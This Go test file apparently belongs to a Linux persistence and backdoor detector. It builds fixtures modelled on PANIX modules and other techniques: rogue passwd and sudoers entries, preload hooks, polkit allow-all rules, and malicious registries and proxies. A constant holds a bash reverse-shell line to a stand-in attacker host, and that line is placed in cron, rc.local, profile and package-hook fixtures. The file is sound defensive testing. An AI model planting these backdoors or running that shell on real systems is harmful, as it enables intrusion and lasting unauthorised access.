package check_test

import (
	"os"
	"os/exec"
	"strconv"

	"cordon/internal/check"
	"cordon/internal/testenv"
)

func osChown(p string, uid int) error { return os.Chown(p, uid, uid) }

func passwdLine(line string) func(*tree) {
	return func(tr *tree) { tr.more("/etc/passwd", line+"\n") }
}

func groupLine(line string) func(*tree) {
	return func(tr *tree) { tr.more("/etc/group", line+"\n") }
}

const shellOut = "#!/bin/sh\nnohup bash -c 'bash -i >& /dev/tcp/" + evil + "/443 0>&1' &\n"

// listener adds a socket to the kernel's table and gives it to a process.
func listener(tr *tree, pid int, line string, inode string) {
	made := tr.made
	tr.more("/proc/net/tcp", line+"\n")
	tr.link("socket:["+inode+"]", "/proc/"+strconv.Itoa(pid)+"/fd/5")
	tr.made = made
}

// panixRows are the 37 modules of PANIX (facts/host.md §2.1), each with the path and
// the shape that the module leaves and a payload that does nothing.
var panixRows = []row{
	{"at", "cron-timers", check.Medium, "atjobs/a0000201", false, program("/var/spool/cron/atjobs/a0000201c2f5a0", "#!/bin/sh\n/bin/true\n")},
	{"authorized_keys", "authorized-keys", check.High, "/home/runner/.ssh/authorized_keys", false, plainFile("/home/runner/.ssh/authorized_keys", aKey+"\n")},
	{"authorized_keys .bak", "authorized-keys", check.Medium, "authorized_keys.bak", false, plainFile("/root/.ssh/authorized_keys.bak", "\n")},
	{"backdoor_system_user shells", "logins", check.High, "/etc/shells", false, plainFile("/etc/shells", "/bin/sh\n/usr/sbin/nologin \n")},
	{"backdoor_system_user passwd", "logins", check.High, "/etc/passwd|sysx", false, passwdLine("sysx:x:11:11::/nonexistent:/usr/sbin/nologin ")},
	{"backdoor_system_user keys", "authorized-keys", check.High, "/var/spool/news/.ssh", false, plainFile("/var/spool/news/.ssh/authorized_keys", aKey+"\n")},
	{"backdoor_user", "logins", check.Critical, "/etc/passwd|helper", false, passwdLine("helper:x:0:0::/home/helper:/bin/bash")},
	{"bind_shell", "connections", check.High, "0.0.0.0:8443", false, func(tr *tree) {
		tr.process(3001, 1, 0, "bd64", "/tmp/bd64", "/x", nil, "/tmp/bd64")
		listener(tr, 3001, "   1: 00000000:20FB 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 5501 1", "5501")
	}},
	{"cap_backdoor", "privileges", check.High, "/usr/bin/perl", true, func(tr *tree) {
		tr.file("/usr/bin/perl", "\x7fELF", 0o755)
		testenv.Need(tr.t, "getcap") // the collector asks it
		if out, err := exec.Command(testenv.Need(tr.t, "setcap"), "cap_setuid+ep", tr.root+"/usr/bin/perl").CombinedOutput(); err != nil {
			tr.t.Fatalf("setcap: %v: %s", err, out)
		}
		tr.told = append(tr.told, "caps")
	}},
	{"create_new_user", "logins", check.Info, "/etc/passwd|panix", false, passwdLine("panix:x:1002:1002::/home/panix:/bin/bash")},
	{"cron cron.d", "cron-timers", check.High, "freedesktop_timesync1", false, plainFile("/etc/cron.d/freedesktop_timesync1", "* * * * * root /bin/true\n")},
	{"cron cron.hourly", "cron-timers", check.High, "cron.hourly/sys", false, program("/etc/cron.hourly/sys", shellOut)},
	{"cron crontab", "cron-timers", check.High, "crontabs/runner", false, plainFile("/var/spool/cron/crontabs/runner", "* * * * * /bin/true\n")},
	{"dbus service", "event-hooks", check.Medium, "org.panix.persistence.service", false, plainFile("/usr/share/dbus-1/system-services/org.panix.persistence.service", "[D-BUS Service]\nName=org.panix.persistence\nExec=/usr/local/bin/dbus-panix.sh\nUser=root\n")},
	{"dbus policy", "event-hooks", check.Medium, "org.panix.persistence.conf", false, plainFile("/etc/dbus-1/system.d/org.panix.persistence.conf", "<busconfig><policy context=\"default\"><allow own=\"org.panix.persistence\"/></policy></busconfig>\n")},
	{"generator_persistence", "boot-hooks", check.Medium, "system-generators/makecon", false, program("/usr/lib/systemd/system-generators/makecon", "#!/bin/sh\n/bin/true\n")},
	{"git_persistence hook", "developer-tools", check.Medium, "hooks/pre-commit", false, program("/home/runner/src/app/.git/hooks/pre-commit", "#!/bin/sh\n/bin/true\n")},
	{"git_persistence pager of a repository", "developer-tools", check.High, "src/app/.git/config", false, plainFile("/home/runner/src/app/.git/config", "[core]\n\tpager = nohup setsid /bin/true & less\n")},
	{"git_persistence pager of an account", "shell-profiles", check.High, "/home/runner/.gitconfig", false, plainFile("/home/runner/.gitconfig", "[core]\n\tpager = nohup setsid /bin/true & less\n")},
	{"grub", "boot-hooks", check.High, "99-panix.cfg", false, plainFile("/etc/default/grub.d/99-panix.cfg", "GRUB_CMDLINE_LINUX_DEFAULT=\"quiet init=/grub-panix.sh\"\n")},
	{"grub script", "boot-hooks", check.Medium, "/grub-panix.sh", false, program("/grub-panix.sh", "#!/bin/sh\n/bin/true\n")},
	{"grub in use", "kernel", check.High, "/proc/cmdline", false, func(tr *tree) { tr.fact("cmdline", "/proc/cmdline", " init=/grub-panix.sh\n") }},
	{"initd_backdoor", "boot-hooks", check.High, "/etc/init.d/ssh-procps", false, program("/etc/init.d/ssh-procps", "#!/bin/sh\n/bin/true\n")},
	{"initramfs dracut", "boot-hooks", check.Medium, "99panix", false, func(tr *tree) { tr.dir("/usr/lib/dracut/modules.d/99panix", 0o755) }},
	{"initramfs hook", "boot-hooks", check.Medium, "initramfs-tools/hooks/panix", false, program("/etc/initramfs-tools/hooks/panix", "#!/bin/sh\n/bin/true\n")},
	{"initramfs copy", "boot-hooks", check.Medium, "initrd.img-6.1.0.bak", false, plainFile("/boot/initrd.img-6.1.0.bak", "x")},
	{"ld_preload", "ld-preload", check.Critical, "/etc/ld.so.preload", false, plainFile("/etc/ld.so.preload", "/lib/preload_backdoor.so\n")},
	{"lkm module", "kernel", check.Medium, "module panix", false, func(tr *tree) {
		tr.fact("modules", "/proc/modules", "panix 16384 0 - Live 0x0000000000000000 (OE)\n")
	}},
	{"lkm at boot", "boot-hooks", check.Medium, "modules-load.d/panix.conf", false, plainFile("/etc/modules-load.d/panix.conf", "panix\n")},
	{"malicious_docker_container", "containers", check.High, "hostconfig.json", false, plainFile("/var/lib/docker/containers/0123456789abcdef/hostconfig.json", `{"Binds":["/:/host"],"Privileged":true,"PidMode":"host","RestartPolicy":{"Name":"always","MaximumRetryCount":0}}`)},
	{"malicious_package", "package-hooks", check.High, "panix.postinst", false, program("/var/lib/dpkg/info/panix.postinst", shellOut)},
	{"motd_backdoor", "logins", check.Medium, "137-python-upgrades", false, program("/etc/update-motd.d/137-python-upgrades", "#!/bin/sh\n/bin/true\n")},
	{"network_manager", "boot-hooks", check.Medium, "dispatcher.d/panix-dispatcher.sh", false, program("/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh", "#!/bin/sh\n/bin/true\n")},
	{"package_manager_persistence apt", "package-hooks", check.Medium, "01python-upgrades", false, plainFile("/etc/apt/apt.conf.d/01python-upgrades", "APT::Update::Pre-Invoke {\"/bin/true\"};\n")},
	{"package_manager_persistence dnf", "package-hooks", check.Medium, "dnfcon.py", false, plainFile("/usr/lib/python3.11/site-packages/dnf-plugins/dnfcon.py", "import dnf\n")},
	{"pam line", "logins", check.High, "/etc/pam.d/sshd", false, plainFile("/etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /bin/true\n")},
	{"pam module", "logins", check.High, "pam_unix.so.bak", false, plainFile("/usr/lib/x86_64-linux-gnu/security/pam_unix.so.bak", "\x7fELF")},
	{"passwd_user", "logins", check.High, "/etc/passwd|hashed", false, passwdLine("hashed:$1$ab$0123456789abcdef:1003:1003::/root:/bin/bash")},
	{"password_change", "logins", check.Medium, "/etc/shadow", true, func(tr *tree) {
		tr.file("/etc/shadow", "root:*:19000:0:99999:7:::\nnews:$y$j9T$abcdefgh$0123456789:20400:0:99999:7:::\n", 0o600)
		tr.told = append(tr.told, "shadow")
	}},
	{"polkit pkla", "privileges", check.Medium, "panix.pkla", false, plainFile("/etc/polkit-1/localauthority/50-local.d/panix.pkla", "[x]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\n")},
	{"polkit rule", "privileges", check.High, "99-panix.rules", false, plainFile("/etc/polkit-1/rules.d/99-panix.rules", "polkit.addRule(function(action, subject) {\n  return polkit.Result.YES;\n});\n")},
	{"rc_local_backdoor", "cron-timers", check.High, "/etc/rc.local", false, program("/etc/rc.local", shellOut)},
	{"reverse_shell", "connections", check.High, evil + ":443", false, func(tr *tree) {
		tr.process(3002, 1, 0, "bash", "/usr/bin/bash", "/x", nil, "bash", "-i")
		listener(tr, 3002, "   2: 0200000A:D432 420200C0:01BB 01 00000000:00000000 00:00000000 00000000     0        0 5502 1", "5502")
	}},
	{"rootkit taint", "kernel", check.Medium, "sys/kernel/tainted", false, func(tr *tree) {
		tr.file("/proc/sys/kernel/tainted", "12288\n", 0o444)
		tr.told = append(tr.told, "tainted")
	}},
	{"shell_profile account", "shell-profiles", check.Medium, "/home/runner/.bash_profile", false, plainFile("/home/runner/.bash_profile", "/bin/true\n")},
	{"shell_profile system", "shell-profiles", check.High, "/etc/profile.d/z.sh", false, plainFile("/etc/profile.d/z.sh", shellOut)},
	{"ssh_key", "runner-account", check.Low, "id_rsa1822.pub", false, func(tr *tree) {
		tr.file("/home/runner/.ssh/id_rsa1822.pub", aKey+"\n", 0o644)
		tr.file("/home/runner/.ssh/id_rsa1822", "x\n", 0o600)
	}},
	{"ssh_key private half", "secrets-on-disk", check.Medium, "/home/runner/.ssh/id_ed1822", false, func(tr *tree) { tr.file("/home/runner/.ssh/id_ed1822", "x\n", 0o600) }},
	{"sudoers_backdoor", "privileges", check.Medium, "/etc/sudoers.d/runner", false, plainFile("/etc/sudoers.d/runner", "runner ALL=(ALL) NOPASSWD:ALL\n")},
	{"sudoers_backdoor editor", "privileges", check.Medium, "/etc/sudoers.d/editor|/usr/bin/vim /var/log/*", false, plainFile("/etc/sudoers.d/editor", "runner\tALL=(root) NOPASSWD: \\\n\t/usr/bin/vim /var/log/*\n")},
	{"sudoers_backdoor group", "privileges", check.Medium, "/etc/sudoers.d/byname|%builders", false, func(tr *tree) {
		tr.file("/etc/sudoers.d/byname", "%builders ALL=(root) NOPASSWD: /usr/bin/make\n", 0o440)
		tr.more("/etc/group", "builders:x:2001:runner\n")
	}},
	{"group docker", "privileges", check.High, "/etc/group|runner is in docker: it starts a container", false, groupLine("docker:x:990:ir,runner")},
	{"group disk", "privileges", check.High, "/etc/group|disk: it reads and writes", false, groupLine("disk:x:6:runner")},
	{"group shadow under another name", "privileges", check.High, "/etc/group|shadow: it reads", false, groupLine("printers:x:42:runner")},
	{"group first", "privileges", check.High, "/etc/group|forgejo-runner is in sudo: the rules", false, passwdLine("forgejo-runner:x:996:27::/nonexistent:/usr/sbin/nologin")},
	{"group of a service", "privileges", check.Medium, "/etc/group|news is in docker", false, groupLine("docker:x:990:news")},
	{"suid_backdoor", "privileges", check.High, "/usr/bin/find", true, func(tr *tree) {
		tr.file("/usr/bin/find", "\x7fELF", 0o755)
		tr.must(os.Chmod(tr.root+"/usr/bin/find", 0o755|os.ModeSetuid))
	}},
	{"system_binary_backdoor", "system-programs", check.High, "/usr/bin/ls", false, func(tr *tree) {
		tr.file("/usr/bin/ls.original", "\x7fELF", 0o755)
		tr.file("/usr/bin/ls", "#!/bin/sh\n/usr/bin/ls.original \"$@\"\n", 0o755)
	}},
	{"systemd timer", "cron-timers", check.High, "dbus-org.freedesktop.resolved.timer", false, func(tr *tree) {
		tr.file("/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer", "[Timer]\nOnBootSec=10\n", 0o644)
		tr.file("/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service", "[Service]\nExecStart=/bin/true\n", 0o644)
	}},
	{"systemd service of an account", "runner-account", check.Medium, "/home/runner/.config/systemd/user/sync.service", false, plainFile("/home/runner/.config/systemd/user/sync.service", "[Service]\nExecStart=/bin/true\n")},
	{"systemd among the vendor's", "boot-hooks", check.Medium, "/usr/lib/systemd/system/netd.service", false, plainFile("/usr/lib/systemd/system/netd.service", "[Service]\nExecStart=/bin/true\n")},
	{"systemd linger", "cron-timers", check.Medium, "linger/runner", false, plainFile("/var/lib/systemd/linger/runner", "")},
	{"udev", "event-hooks", check.Medium, "10-sedexp.rules", false, plainFile("/etc/udev/rules.d/10-sedexp.rules", "ACTION==\"add\", ENV{MAJOR}==\"1\", RUN+=\"/bin/true\"\n")},
	{"web_shell", "processes", check.Medium, "process 3003", false, func(tr *tree) {
		tr.process(3003, 1, 0, "php", "/usr/bin/php8.2", "/x", nil, "php", "-S", "0.0.0.0:8080", "-t", "/var/www/html/panix")
	}},
	{"xdg account", "logins", check.High, "/home/runner/.config/autostart", false, plainFile("/home/runner/.config/autostart/panix.desktop", "[Desktop Entry]\nExec=/bin/true\n")},
	{"xdg system", "logins", check.Medium, "/etc/xdg/autostart", false, plainFile("/etc/xdg/autostart/panix.desktop", "[Desktop Entry]\nExec=/bin/true\n")},
}

// otherRows are facts/host.md §2.2, and the runtime signs of the issue.
var otherRows = []row{
	{"dependency-caches gradle", "developer-tools", check.Medium, ".gradle/init.d/x.gradle", false, plainFile("/home/runner/.gradle/init.d/x.gradle", "allprojects {}\n")},
	{"dependency-caches cargo", "developer-tools", check.Medium, ".cargo/config.toml", false, plainFile("/home/runner/.cargo/config.toml", "[build]\nrustc-wrapper = \"/home/runner/w\"\n")},
	{"dependency-caches go", "developer-tools", check.High, ".config/go/env", false, plainFile("/home/runner/.config/go/env", "GOFLAGS=-toolexec=/opt/x\n")},
	{"package-client npm", "developer-tools", check.High, "/home/runner/.npmrc", false, plainFile("/home/runner/.npmrc", "script-shell=/tmp/sh\n")},
	{"package-client registry", "developer-tools", check.Medium, "/home/ir/.npmrc", false, plainFile("/home/ir/.npmrc", "registry=http://"+evil+"/\n")},
	{"package-client pip", "developer-tools", check.Medium, "pip.conf", false, plainFile("/home/runner/.config/pip/pip.conf", "[global]\nextra-index-url = https://"+evil+"/simple\n")},
	{"python-startup pth", "developer-tools", check.Medium, "x.pth", false, plainFile("/usr/local/lib/python3.11/dist-packages/x.pth", "import os\n")},
	{"python-startup usercustomize", "developer-tools", check.Medium, "usercustomize.py", false, plainFile("/home/runner/.local/lib/python3.11/site-packages/usercustomize.py", "import os\n")},
	{"docker-client", "developer-tools", check.Medium, ".docker/config.json", false, plainFile("/home/runner/.docker/config.json", `{"credsStore":"evil"}`)},
	{"docker-client daemon", "containers", check.High, "/etc/docker/daemon.json", false, plainFile("/etc/docker/daemon.json", `{"hosts":["tcp://0.0.0.0:2375"]}`)},
	{"containers-return quadlet", "containers", check.Medium, "containers/systemd/x.container", false, plainFile("/home/runner/.config/containers/systemd/x.container", "[Container]\nImage=x\n")},
	{"containers-return docker", "containers", check.Medium, "fedcba9876543210/hostconfig.json", false, plainFile("/var/lib/docker/containers/fedcba9876543210/hostconfig.json", `{"Privileged":true,"RestartPolicy":{"Name":"no"}}`)},
	{"cloud-init", "boot-hooks", check.High, "per-boot/x.sh", false, program("/var/lib/cloud/scripts/per-boot/x.sh", shellOut)},
	{"k8s-runner token", "containers", check.Info, "serviceaccount", false, plainFile("/var/run/secrets/kubernetes.io/serviceaccount/token", "x")},
	{"k8s-runner socket", "containers", check.High, "/var/run/docker.sock", false, func(tr *tree) {
		tr.fact("mounts", "/proc/self/mountinfo", "99 21 0:5 /docker.sock /var/run/docker.sock rw - tmpfs tmpfs rw\n")
	}},
	{"sshd-config command", "authorized-keys", check.Medium, "sshd_config.d/1.conf", false, plainFile("/etc/ssh/sshd_config.d/1.conf", "AuthorizedKeysCommand /opt/keys\nAuthorizedKeysCommandUser root\n")},
	{"sshd-config rc", "authorized-keys", check.High, "/home/runner/.ssh/rc", false, plainFile("/home/runner/.ssh/rc", "/bin/true\n")},
	{"loader-paths ld.so.conf.d", "event-hooks", check.High, "ld.so.conf.d/x.conf", false, plainFile("/etc/ld.so.conf.d/x.conf", "/var/tmp/lib\n")},
	{"loader-paths binfmt", "event-hooks", check.High, "binfmt_misc/x", false, plainFile("/proc/sys/fs/binfmt_misc/x", "enabled\ninterpreter /tmp/x\nflags: F\n")},
	{"loader-paths environment", "shell-profiles", check.High, "/etc/environment", false, plainFile("/etc/environment", "LD_AUDIT=/opt/x.so\n")},
	{"tmpfiles", "event-hooks", check.High, "tmpfiles.d/a.conf", false, plainFile("/etc/tmpfiles.d/a.conf", "f+ /etc/cron.d/x 0644 root root - * * * * * root /bin/true\n")},
	{"tmpfiles setuid", "event-hooks", check.High, "tmpfiles.d/b.conf", false, plainFile("/etc/tmpfiles.d/b.conf", "z /opt/x 4755 root root\n")},
	{"logrotate", "event-hooks", check.Medium, "logrotate.d/app", false, plainFile("/etc/logrotate.d/app", "/var/log/app.log {\n  firstaction\n    /opt/x\n  endscript\n}\n")},
	{"rsyslog", "event-hooks", check.Medium, "rsyslog.d/x.conf", false, plainFile("/etc/rsyslog.d/x.conf", "module(load=\"omprog\")\naction(type=\"omprog\" binary=\"/opt/x\")\n")},
	{"nsswitch", "event-hooks", check.Medium, "/etc/nsswitch.conf|passwd: evil", false, plainFile("/etc/nsswitch.conf", "passwd:         files evil systemd\nhosts: files mdns4_minimal [NOTFOUND=return] dns\n")},
	{"completion", "event-hooks", check.High, "bash_completion.d/x", false, plainFile("/etc/bash_completion.d/x", shellOut)},
	{"completion of a tool", "event-hooks", check.Low, "bash_completion.d/kubectl", false, plainFile("/etc/bash_completion.d/kubectl", "complete -F __start kubectl\n")},
	{"needrestart", "event-hooks", check.Medium, "needrestart/conf.d/x.conf", false, plainFile("/etc/needrestart/conf.d/x.conf", "system('/bin/true');\n")},
	{"kernel hook", "boot-hooks", check.Medium, "kernel/postinst.d/zz-x", false, program("/etc/kernel/postinst.d/zz-x", "#!/bin/sh\n/bin/true\n")},
	{"perl", "developer-tools", check.Medium, "/etc/perl/sitecustomize.pl", false, plainFile("/etc/perl/sitecustomize.pl", "system('/bin/true');\n")},
	{"curl", "developer-tools", check.Medium, "/home/runner/.curlrc|every server", false, plainFile("/home/runner/.curlrc", "insecure\nproxy = http://"+evil+":3128\n")},
	{"apt source", "package-hooks", check.Medium, "sources.list.d/x.list", false, plainFile("/etc/apt/sources.list.d/x.list", "deb [arch=amd64 trusted=yes] http://deb.example.org stable main\n")},
	{"apt source paragraph", "package-hooks", check.Medium, "sources.list.d/x.sources", false, plainFile("/etc/apt/sources.list.d/x.sources", "Types: deb\nURIs: http://deb.example.org\nSuites: stable\nTrusted: yes\n")},
	{"ebpf", "kernel", check.Medium, "/sys/fs/bpf/x", false, plainFile("/sys/fs/bpf/x", "")},
	{"proc-bind-mount", "kernel", check.Critical, "/proc/4711", false, func(tr *tree) {
		tr.fact("mounts", "/proc/self/mountinfo", "98 21 254:1 /empty /proc/4711 rw - ext4 /dev/vda1 rw\n")
	}},
	{"sudo-env", "privileges", check.High, "/etc/sudoers.d/env", false, plainFile("/etc/sudoers.d/env", "Defaults env_keep += \"LD_PRELOAD\"\n")},
	{"kernel-helpers core_pattern", "kernel", check.High, "core_pattern", false, func(tr *tree) {
		tr.file("/proc/sys/kernel/core_pattern", "|/tmp/x %p\n", 0o444)
		tr.told = append(tr.told, "core_pattern")
	}},
	{"kernel-helpers modprobe", "kernel", check.High, "sys/kernel/modprobe", false, func(tr *tree) {
		tr.file("/proc/sys/kernel/modprobe", "/opt/modprobe\n", 0o444)
		tr.told = append(tr.told, "modprobe")
	}},

	{"runtime shell", "processes", check.Medium, "process 3101", false, func(tr *tree) { tr.process(3101, 1, 0, "bash", "/usr/bin/bash", "/", nil, "bash") }},
	{"runtime installer", "processes", check.Medium, "process 3102", false, func(tr *tree) {
		tr.process(3102, 1, 0, "pip3", "/usr/bin/pip3", "/", nil, "pip3", "install", "x")
	}},
	{"runtime archiver", "processes", check.Medium, "process 3103", false, func(tr *tree) { tr.process(3103, 1, 0, "tar", "/usr/bin/tar", "/", nil, "tar", "c", "/home") }},
	{"runtime compiler", "processes", check.Medium, "process 3104", false, func(tr *tree) { tr.process(3104, 1, 0, "gcc", "/usr/bin/gcc", "/", nil, "gcc", "x.c") }},
	{"runtime interpreter", "processes", check.Medium, "process 3105", false, func(tr *tree) {
		tr.process(3105, 1, 0, "python3", "/usr/bin/python3.11", "/", nil, "python3", "a.py")
	}},
	{"runtime destination", "destinations", check.Info, "198.51.100.7:443", false, func(tr *tree) {
		tr.process(3106, 910, jobUser, "node", "/usr/bin/node", "/x", nil, "node")
		listener(tr, 3106, "   3: 0200000A:D433 076433C6:01BB 01 00000000:00000000 00:00000000 00000000   998        0 5503 1", "5503")
	}},
	{"reach agent", "reach", check.Info, "/tmp/ssh-AbC/agent.7", false, plainFile("/tmp/ssh-AbC/agent.7", "")},
	{"reach known hosts", "reach", check.Info, "/home/ir/.ssh/known_hosts", false, plainFile("/home/ir/.ssh/known_hosts", "db.example.org ssh-ed25519 AAAA\n")},
	{"reach cluster", "reach", check.Info, "/home/ir/.kube/config", false, plainFile("/home/ir/.kube/config", "x")},
	{"metadata", "cloud-metadata", check.Info, "169.254.169.254", false, func(tr *tree) {
		tr.file("/proc/net/route", "Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\neth0\tFEA9FEA9\t00000000\t0005\t0\t0\t0\tFFFFFFFF\n", 0o444)
		tr.told = append(tr.told, "route")
	}},
	{"age", "host-age", check.Info, "build-07|machine id", false, plainFile("/etc/machine-id", "0123456789abcdef0123456789abcdef\n")},
}
